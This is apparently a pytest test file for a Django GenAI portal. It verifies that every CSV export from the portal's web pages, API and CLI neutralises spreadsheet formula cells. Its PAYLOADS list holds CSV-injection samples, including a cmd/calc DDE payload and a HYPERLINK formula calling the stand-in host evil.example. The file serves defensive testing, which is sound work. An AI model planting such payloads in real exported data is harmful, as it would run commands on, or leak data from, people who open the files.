"""No CSV the portal or its CLI writes has a cell a spreadsheet would run as a formula.

Formula payloads (OWASP's CSV-injection examples) are stored through the ORM in every text a
user, a directory or LiteLLM controls: key and project names, tags, model and provider names,
key aliases of unknown keys, department names and cost centres, display names and e-mails,
review reasons, campaign names, audit entries. Where a form now refuses such a name, it is
stored as rows made before the rule would have it.

Then every CSV is found, not listed:

* pages: every route of the URL configuration (``tests/routes.py``) is fetched, as it is and
  with ``?format=csv``; a ``text/csv`` answer makes it a CSV route, and every link to a CSV
  route on any page (one per table) is fetched too;
* API: every operation whose OpenAPI document offers ``text/csv``, with each value its
  ``table`` and ``format`` parameters allow;
* CLI: every command of ``genai-portal``'s argument parser is run with ``-o csv`` against the
  live server, or is listed in :data:`CLI_NO_CSV` with the reason it prints no CSV of its own.

Each CSV is parsed; no cell may start with ``= + - @``, tab or CR unless it is a plain number,
and each must show at least one payload, neutralised (so the check is not vacuous).
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys
from decimal import Decimal, InvalidOperation
from html.parser import HTMLParser
from urllib.parse import urlencode, urlsplit

import pytest
from django.test import Client
from django.urls import Resolver404, resolve
from django.utils import timezone

from approvals.lifecycle import Status
from approvals.review_models import ReviewItem
from costs.ingest import upsert_daily
from keys.models import VirtualKey
from modelaccess.models import ModelAccessRequest
from pipelines.models import PipelineIdentity
from portal import audit
from projects.models import TuningProject
from tenants.models import Department

from .api_support import KEY_BODY, Api
from .routes import build_world, portal_routes, route_args
from .test_costs_support import make_key, row

pytestmark = [pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "=1+2+cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?x","keep")',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written down here on purpose

# Commands that print no CSV of their own, and why. Every other command is run below.
CLI_NO_CSV = {
    ("login",): "device-code sign-in; prints a greeting",
    ("logout",): "deletes the token cache; prints nothing",
    ("keys", "reveal"): "prints the secret and client settings (or JSON), never CSV",
    ("projects", "reveal"): "prints the secret and client settings (or JSON), never CSV",
    ("keys", "rotate"): "needs the LiteLLM proxy; prints the key as `keys show` does",
    ("keys", "revoke"): "needs the LiteLLM proxy; prints the key as `keys show` does",
    ("keys", "extend"): "prints the extension's id, status, days and new expiry: no user text",
    ("projects", "end"): "needs Langfuse; prints the project as `projects show` does",
    ("requests", "approve"): "prints the request as `requests reject` does (run below)",
    ("exchange",): "prints a key and the proxy's URL as shell exports or JSON, never CSV",
    ("pipelines", "request"): "the identity form; tests/test_pipelines_disable.py runs it",
    ("pipelines", "disable"): "prints the identity as `pipelines show` does (run below)",
}


def _is_number(text: str) -> bool:
    try:
        return Decimal(text).is_finite()
    except InvalidOperation:
        return False


def formula_cells(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [c for r in rows for c in r if c.startswith(FORMULA_START) and not _is_number(c)]


def neutralised(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return [c for r in rows for c in r if any(("'" + p) in c for p in PAYLOADS)]


# -- the data ----------------------------------------------------------------------------------


def seed(world: dict) -> dict:
    alpha, beta = world["alpha"], world["beta"]
    alpha.name, alpha.cost_centre, alpha.litellm_team_id = PAYLOADS[6], PAYLOADS[1], "team-a"
    alpha.save()
    beta.name, beta.cost_centre, beta.litellm_team_id = "+beta", "-CC 7", "team-b"
    beta.save()
    dev = world["dev"]
    dev.display_name, dev.email = PAYLOADS[3], "-dev@example.com"
    dev.save()
    today = timezone.now().date()
    last_month = today.replace(day=1) - datetime.timedelta(days=1)
    rows = []
    for i, payload in enumerate(PAYLOADS):
        # The first key is over its budget: the "near the budget" table shows it.
        budget = {"max_budget": Decimal("1")} if i == 0 else {}
        key = make_key(dev, alpha, f"hash-{i}", name=payload, tags=[payload], **budget)
        audit.record("virtualkey.submitted", key, actor=dev)
        for day in (today, last_month):
            rows.append(row(day=day, team="team-a", user=dev.entra_oid, key=f"hash-{i}",
                            model=payload, provider=payload, spend="1.25"))  # fmt: skip
    # A key LiteLLM knows and the portal does not (the "unattributed" table): its alias.
    for day in (today, last_month):
        rows.append(row(day=day, team=PAYLOADS[1], user="", key="hash-unknown", model=PAYLOADS[0]))
    rows.append(row(day=today, team="team-b", user="", key="hash-b", spend="-0.50"))
    for r in rows:
        if r.key_hash == "hash-unknown":
            r.key_alias = PAYLOADS[2]
    upsert_daily(rows)
    item = world["review_item"]
    ReviewItem.objects.filter(pk=item.pk).update(
        label=PAYLOADS[0],
        owner=dev,
        decision="keep",
        reason=PAYLOADS[6],
        decided_by=world["lead"],
        decided_at=timezone.now(),
    )
    world["campaign"].name = PAYLOADS[4]
    world["campaign"].save()
    VirtualKey.objects.filter(pk=world["active"].pk).update(name=PAYLOADS[5])
    for name, payload in (("project", 2), ("pending_project", 3), ("manual_project", 4)):
        TuningProject.objects.filter(pk=world[name].pk).update(name=PAYLOADS[payload])
    for name, payload in (("pipeline", 6), ("pipeline_live", 1)):
        PipelineIdentity.objects.filter(pk=world[name].pk).update(name=PAYLOADS[payload])
    # The lead's queue and the developer's own requests: a name the form now refuses.
    pending = VirtualKey.objects.get(pk=world["pending"].pk)
    pending.name, pending.approver = PAYLOADS[0], world["lead"]
    pending.save()
    Department.objects.filter(pk=alpha.pk).update(approver_rule="lead_group")
    access = world["model_access"]
    ModelAccessRequest.objects.filter(pk=access.pk).update(model_name=PAYLOADS[1])
    return {"pending": pending, "model_access": access}


# -- pages ---------------------------------------------------------------------------------------


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href")
        if tag == "a" and href:
            self.hrefs.append(href)


def _is_csv(response) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith("text/csv")


def _body(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8")


def page_csvs(world) -> dict[str, str]:
    """URL -> CSV text for every CSV the pages offer, found from the URL configuration."""
    clients = {}
    for role in ("dev", "lead", "infra"):
        clients[role] = Client()
        clients[role].force_login(world[role])
    csv_routes, pages = set(), []
    for route in portal_routes():
        url = route.url(route_args(route, world))
        for role, client in clients.items():
            for candidate in (url, f"{url}?{urlencode({'format': 'csv'})}"):
                response = client.get(candidate)
                if _is_csv(response):
                    csv_routes.add(route.name)
                elif response.status_code == 200 and "text/html" in response["Content-Type"]:
                    pages.append((role, _body(response)))
    found: dict[str, str] = {}
    links = set()
    for role, html in pages:
        parser = Links()
        parser.feed(html)
        for href in parser.hrefs:
            try:
                name = resolve(urlsplit(href).path).url_name
            except Resolver404:
                continue
            if name in csv_routes or "format=csv" in href:
                links.add((role, href))
    for route in portal_routes():
        if route.name in csv_routes:
            links.add(("infra", route.url(route_args(route, world))))
    for role, href in sorted(links):
        for candidate in (href, f"{href}{'&' if '?' in href else '?'}format=csv"):
            response = clients[role].get(candidate)
            if _is_csv(response):
                found[f"{role} {candidate}"] = _body(response)
                break
    covered = {resolve(urlsplit(k.split(" ", 1)[1]).path).url_name for k in found}
    assert csv_routes <= covered, csv_routes - covered
    return found


# -- API ------------------------------------------------------------------------------------------


def _choices(param: dict) -> list[str]:
    pattern = param.get("schema", {}).get("pattern", "")
    match = re.fullmatch(r"\^\(([\w|]+)\)\$", pattern)
    return match.group(1).split("|") if match else []


def api_csvs(api, world) -> dict[str, str]:
    doc = api.client.get("/api/v1/openapi.json").json()
    found: dict[str, str] = {}
    for template, item in doc["paths"].items():
        for method, operation in item.items():
            content = operation["responses"].get("200", {}).get("content", {})
            if "text/csv" not in content:
                continue
            assert method == "get", template
            params = operation.get("parameters", [])
            path = template.replace("{slug}", world["alpha"].slug)[len("/api/v1") :]
            variants = [{"format": "csv"}]
            for p in params:
                if p["in"] == "query" and p["name"] == "table":
                    variants = [{**v, "table": t} for v in variants for t in _choices(p)]
            for query in variants:
                for role in ("dev", "infra"):
                    reply = api.get(world[role], f"{path}?{urlencode(query)}")
                    if reply.status_code == 200:
                        text = (
                            b"".join(reply.streaming_content) if reply.streaming else reply.content
                        )
                        found[f"{role} {path}?{urlencode(query)}"] = text.decode("utf-8")
            assert any(k.split(" ", 1)[1].startswith(path + "?") for k in found), template
    return found


# -- CLI ------------------------------------------------------------------------------------------


def cli_commands() -> list[tuple[str, ...]]:
    """Every command of ``genai-portal`` (leaf of its argument parser)."""
    import argparse

    from api.cli.main import _parser

    def walk(parser, prefix):
        subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        if not subs:
            yield prefix
            return
        for name, child in subs[0].choices.items():
            yield from walk(child, (*prefix, name))

    return list(walk(_parser(), ()))


def cli_csvs(api, world, live_server, objects) -> dict[str, str]:
    def run(who, *args):
        env = {**os.environ, "GENAI_PORTAL_URL": live_server.url}
        env["GENAI_PORTAL_TOKEN"] = api.token(world[who])
        return subprocess.run(
            [sys.executable, "-m", "api.cli.main", "-o", "csv", *args],
            env=env, capture_output=True, timeout=120,  # bytes: no newline translation
        )  # fmt: skip

    key, project = world["active"].pk, world["project"].pk
    cancellable = make_key(world["dev"], world["alpha"], "hash-cancel", name=PAYLOADS[1],
                           status=Status.SUBMITTED)  # fmt: skip
    month = timezone.now().strftime("%Y-%m")
    runs = {
        ("whoami",): ("dev", []),
        ("keys", "list"): ("dev", ["--all"]),
        ("keys", "show"): ("dev", [str(key)]),
        ("keys", "cancel"): ("dev", [str(cancellable.pk)]),
        ("projects", "list"): ("dev", []),
        ("projects", "show"): ("dev", [str(project)]),
        ("projects", "cancel"): ("dev", [str(world["pending_project"].pk)]),
        ("models", "list"): ("dev", ["--all"]),
        ("models", "show"): ("dev", [str(objects["model_access"].pk)]),
        ("models", "cancel"): ("dev", [str(objects["model_access"].pk)]),
        ("requests", "list"): ("lead", ["--queue"]),
        ("requests", "reject"): ("lead", [str(objects["pending"].pk), "--comment", "no"]),
        ("pipelines", "list"): ("lead", ["--all"]),
        ("pipelines", "show"): ("dev", [str(world["pipeline"].pk)]),
        ("costs", "me"): ("dev", ["--table", "keys"]),
        ("costs", "department"): ("lead", [world["alpha"].slug, "--table", "keys"]),
        ("costs", "org"): ("infra", ["--table", "unattributed"]),
        ("costs", "chargeback"): ("infra", ["--month", month]),
    }
    # A name the form refuses cannot be requested, from the CLI either.
    refused = run("dev", "keys", "request", "--department", world["alpha"].slug,
                  "--name", PAYLOADS[0], "--model", "gpt-4o-mini", "--budget", "1",
                  "--justification", "x")  # fmt: skip
    assert refused.returncode == 1 and b"name" in refused.stderr, refused.stderr
    runs[("keys", "request")] = None
    runs[("models", "request")] = None  # a model LiteLLM serves, from a list: no free text
    runs[("projects", "request")] = None  # the same form: test_names_that_start_like_a_formula_...
    commands = cli_commands()
    unclassified = [c for c in commands if c not in runs and c not in CLI_NO_CSV]
    assert not unclassified, f"new CLI commands: run them here or say why: {unclassified}"
    found = {}
    for command, spec in runs.items():
        if spec is None:
            continue
        who, extra = spec
        result = run(who, *command, *extra)
        assert result.returncode == 0, (command, result.stderr)
        found[f"cli {' '.join(command)}"] = result.stdout.decode("utf-8")
    return found


# -- the test -------------------------------------------------------------------------------------


def test_no_csv_cell_is_a_formula(entra_api, live_server):
    api = Api(entra_api)
    world = build_world()
    for name in ("dev", "lead", "infra"):
        user = world[name]
        api.double.add_user(oid=user.entra_oid, email=user.email, name=str(user))
    objects = seed(world)
    outputs = {
        **page_csvs(world),
        **api_csvs(api, world),
        **cli_csvs(api, world, live_server, objects),
    }
    assert len(outputs) >= 20, sorted(outputs)
    bad = {where: cells for where, text in outputs.items() if (cells := formula_cells(text))}
    assert not bad, json.dumps(bad, indent=1, ensure_ascii=False)[:4000]
    # Not vacuous: each CSV (as one of the roles) shows some user text, neutralised.
    shown: dict[str, bool] = {}
    for where, text in outputs.items():
        what = where.split(" ", 1)[1] if not where.startswith("cli ") else where
        shown[what] = shown.get(what, False) or bool(neutralised(text))
    empty = sorted(what for what, ok in shown.items() if not ok)
    assert not empty, empty


def test_negative_numbers_stay_numbers():
    """A negative amount the portal writes as a number is not user text: no quote added."""
    from costs.tables import Column, Table, csv_response

    table = Table("t", "t", [Column("name", "name"), Column("spend", "spend", "money")], [])
    table.rows = [{"name": "-1+1", "spend": Decimal("-0.5")}, {"name": "-3", "spend": -2}]
    text = b"".join(csv_response(table, "t.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1:] == [["'-1+1", "-0.500000"], ["-3", "-2"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_names_that_start_like_a_formula_are_refused(api, org, payload):
    reply = api.post(org["dev_a"], "/keys", {**KEY_BODY, "name": payload})
    assert reply.status_code == 422, reply.content
    assert "name" in reply.json()["errors"]
    body = {"department": "alpha", "name": payload, "purpose": "p", "lifetime_days": 7,
            "justification": "j"}  # fmt: skip
    reply = api.post(org["dev_a"], "/projects", body)
    assert reply.status_code == 422, reply.content
    assert "name" in reply.json()["errors"]
